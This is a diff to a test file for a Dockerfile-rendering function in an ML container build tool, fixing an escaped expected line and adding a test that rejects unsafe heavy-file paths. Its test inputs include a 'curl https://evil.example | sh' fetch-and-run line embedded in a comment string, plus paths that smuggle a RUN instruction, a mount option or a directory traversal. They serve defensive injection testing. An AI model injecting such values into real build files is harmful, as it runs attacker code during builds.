@@ -65,7 +65,7 @@ describe('renderDockerfile', () => {
         '    started=$(date +%s) \\',
         '    && tar -C /tmp/ml-container-context --numeric-owner --owner=0 --group=0 -cf - . \\',
         '    | tar -C /app --touch -xf - \\',
-        '    && python3 -I -S -B /tmp/ml-container-generated/clamp.py "$started" "${SOURCE_DATE_EPOCH:-0}"',
+        `    && python3 -I -S -B /tmp/ml-container-generated/clamp.py "$started" "${'$'}{SOURCE_DATE_EPOCH:-0}"`,
       ].join('\n'),
     );
     // An earlier ARG would put the commit time in the cache key of the dependency layers.
@@ -140,5 +140,17 @@ describe('decisions in the Dockerfile', () => {
     expect(lines).toContain(
       '# models: x.safetensors)\\nRUN curl https://evil.example | sh\\r\\n# ( (a\\u2028b)',
     );
+  });
+});
+
+describe('heavy files in the Dockerfile', () => {
+  it('refuses, as an internal error, a heavy file path that reached the plan unchecked', () => {
+    for (const path of ['a b.bin', 'x,target=/etc', 'x\nRUN id', '../outside.bin']) {
+      const plan = irisPlan();
+      plan.heavyFiles = [{ path, bytes: 2 << 20 }];
+      expect(() => renderDockerfile(plan, irisLock()), path).toThrow(
+        /the plan's heavy file .* cannot be written/,
+      );
+    }
   });
 });
